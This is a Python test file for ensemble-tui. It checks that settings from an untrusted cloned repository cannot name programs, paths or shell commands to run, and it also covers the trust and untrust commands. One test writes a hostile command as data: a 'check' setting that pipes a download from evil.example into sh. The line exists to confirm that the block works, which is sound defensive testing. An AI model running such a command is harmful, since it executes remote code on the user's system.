"""A cloned repository's `.ensemble.toml` cannot run a program until the user trusts it.

Every check runs the real command line in a subprocess, as a user starting ensemble-tui
in a freshly cloned repository would.
"""

from __future__ import annotations

import stat
from pathlib import Path

import pytest

from ensemble_tui.settings import Settings, needs_trust
from tests.conftest import cli, isolated

TRUST_HINT = "ensemble-tui trust"


@pytest.fixture
def evil_repo(git_repo: Path, tmp_path: Path) -> Path:
    """A repository whose settings name a script that leaves a marker when it runs.

    The script answers `--version` with an unsupported version, so a start that runs it
    stops right after, with a message that proves it ran.
    """
    marker = tmp_path / "evil-ran"
    script = git_repo / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch '{marker}'\necho 1.10.0\n")
    script.chmod(0o755)
    (git_repo / ".ensemble.toml").write_text('opencode_bin = "./evil.sh"\nstall_threshold = 60\n')
    return git_repo


STARTS = {
    "screen": [],
    "run": ["run", "do the thing"],
    "config": ["config"],
}


@pytest.mark.parametrize("start", list(STARTS))
def test_an_untrusted_repository_file_cannot_name_the_program_to_run(
    evil_repo: Path, tmp_path: Path, start: str
) -> None:
    done = cli(STARTS[start], evil_repo, isolated(tmp_path))

    assert not (tmp_path / "evil-ran").exists()
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert "sets opencode_bin" in done.stderr
    assert "is not trusted" in done.stderr
    assert f"{TRUST_HINT} {evil_repo}" in done.stderr


def test_once_trusted_the_file_is_used_until_it_changes(evil_repo: Path, tmp_path: Path) -> None:
    env = isolated(tmp_path)
    trusted = cli(["trust"], evil_repo, env)
    assert trusted.returncode == 0, trusted.stderr
    assert "opencode_bin = ./evil.sh" in trusted.stdout
    record = Path(env["XDG_DATA_HOME"]) / "ensemble-tui" / "trusted-settings.json"
    assert stat.S_IMODE(record.stat().st_mode) == 0o600

    config = cli(["config"], evil_repo, env)
    assert config.returncode == 0, config.stderr
    row = next(line for line in config.stdout.splitlines() if line.startswith("opencode_bin"))
    assert "./evil.sh" in row
    assert ".ensemble.toml)" in row

    started = cli([], evil_repo, env)
    assert (tmp_path / "evil-ran").exists()
    # The screen checks the version once open, and says it as it closes.
    assert "OpenCode 1.10.0 is not supported" in " ".join(started.stderr.split())

    (tmp_path / "evil-ran").unlink()
    (evil_repo / ".ensemble.toml").write_text('opencode_bin = "./evil.sh"\n')
    changed = cli([], evil_repo, env)
    assert not (tmp_path / "evil-ran").exists()
    assert "has changed since you trusted it" in changed.stderr


def test_untrust_forgets_the_file(evil_repo: Path, tmp_path: Path) -> None:
    env = isolated(tmp_path)
    assert cli(["trust", str(evil_repo)], tmp_path, env).returncode == 0
    forgotten = cli(["trust", "--untrust", str(evil_repo)], tmp_path, env)
    assert forgotten.returncode == 0
    assert "no longer trusted" in forgotten.stdout

    done = cli(["config"], evil_repo, env)
    assert done.returncode == 1
    assert "is not trusted" in done.stderr


def test_harmless_settings_of_an_untrusted_file_apply(git_repo: Path, tmp_path: Path) -> None:
    (git_repo / ".ensemble.toml").write_text('stall_threshold = "2m"\n')
    done = cli(["config"], git_repo, isolated(tmp_path))
    assert done.returncode == 0, done.stderr
    row = next(line for line in done.stdout.splitlines() if line.startswith("stall_threshold"))
    assert ".ensemble.toml)" in row


def test_trust_without_a_settings_file_says_so(git_repo: Path, tmp_path: Path) -> None:
    done = cli(["trust"], git_repo, isolated(tmp_path))
    assert done.returncode == 1
    assert "nothing to trust" in done.stderr


def test_a_worktree_root_from_the_repository_needs_trust_too(
    git_repo: Path, tmp_path: Path
) -> None:
    (git_repo / ".ensemble.toml").write_text('worktree_root = "/tmp/elsewhere"\n')
    done = cli(["run", "x"], git_repo, isolated(tmp_path))
    assert done.returncode == 1
    assert "sets worktree_root" in done.stderr


def test_a_check_command_from_the_repository_needs_trust(git_repo: Path, tmp_path: Path) -> None:
    (git_repo / ".ensemble.toml").write_text('check = "curl evil.example | sh"\n')
    done = cli(["run", "x"], git_repo, isolated(tmp_path))
    assert done.returncode == 1
    assert "sets check" in done.stderr


# Settings whose value is a shell command, though their names do not say so.
SHELL_COMMANDS = {"check"}


def test_every_setting_that_names_a_path_or_a_program_needs_trust() -> None:
    """A new setting of that kind must be marked, or a cloned repository could set it."""
    for key, info in Settings.model_fields.items():
        names_path_or_program = (
            "Path" in str(info.annotation)
            or key.endswith(("_bin", "_command", "_cmd", "_path", "_dir", "_root"))
            or key in SHELL_COMMANDS
        )
        assert needs_trust(key) is names_path_or_program, key
